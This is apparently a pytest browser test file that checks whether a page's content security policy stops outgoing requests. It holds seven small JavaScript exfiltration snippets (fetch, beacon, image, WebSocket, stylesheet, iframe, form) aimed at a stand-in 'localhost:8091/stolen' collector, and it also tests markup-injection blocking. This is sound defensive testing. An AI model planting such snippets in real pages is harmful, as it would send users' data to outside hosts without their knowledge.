"""What page code could try to send elsewhere, and what its policy says to that."""

import pytest

from tests.browser.recorder import ELSEWHERE
from tests.browser.walks import arrives

pytestmark = pytest.mark.browser

FOREIGN = "http://localhost:8091/stolen"
WAYS = {
    "fetch": f"() => fetch('{FOREIGN}', {{mode: 'no-cors'}}).catch(() => 0).then(() => 0)",
    "beacon": f"() => {{ navigator.sendBeacon('{FOREIGN}', 'x'); }}",
    "image": f"() => {{ new Image().src = '{FOREIGN}'; }}",
    "socket": "() => { try { new WebSocket('ws://localhost:8091/stolen'); } catch {} }",
    "style": f"""() => {{
      const link = document.createElement('link');
      Object.assign(link, {{ rel: 'stylesheet', href: '{FOREIGN}' }});
      document.head.append(link);
    }}""",
    "frame": f"""() => {{
      const frame = document.createElement('iframe');
      frame.src = '{FOREIGN}';
      document.body.append(frame);
    }}""",
    "form": f"""() => {{
      const form = document.createElement('form');
      Object.assign(form, {{ action: '{FOREIGN}', method: 'post' }});
      document.body.append(form);
      form.submit();
    }}""",
}


def stolen(recorder):
    return [one for one in recorder.sent if "stolen" in one.url or "8091" in one.url.split("/")[2]]


def tried(visitor, recorder, ways):
    """What got out of a page, way by way."""
    recorder.settled()
    recorder.sent.clear()
    for way in ways:
        visitor.call(WAYS[way])
        visitor.page.wait_for_timeout(100)
    visitor.page.wait_for_timeout(300)
    return stolen(recorder)


@pytest.mark.goal("G22")
def test_the_page_reaches_no_other_host(chromium, recorder, service, figure):
    arrives(chromium, service.url)

    assert tried(chromium, recorder, WAYS) == []
    figure(f"{len(WAYS)} ways to another host: 0 requests got out")


@pytest.mark.control("G22")
def test_another_page_reaches_it_the_same_ways(chromium, recorder, figure):
    """The control: without the policy the recorder sees each of them."""
    chromium.open(ELSEWHERE)
    seen = ["fetch", "image", "style", "frame", "form"]

    got_out = tried(chromium, recorder, seen)
    assert len(got_out) >= len(seen)
    figure(f"a page without our policy: {len(seen)} of {len(seen)} ways seen at the recorder")


def test_text_never_becomes_markup_or_code(chromium, recorder, service):
    arrives(chromium, service.url)
    tries = """() => ['innerHTML', 'outerHTML'].map((name) => {
      try { document.querySelector('h1')[name] = '<b>x</b>'; return 'written'; }
      catch (error) { return error.name; }
    }).concat((() => {
      try { new Worker('/static/js/other.js'); return 'started'; }
      catch (error) { return error.name; }
    })())"""

    assert chromium.call(tries) == ["TypeError", "TypeError", "TypeError"]
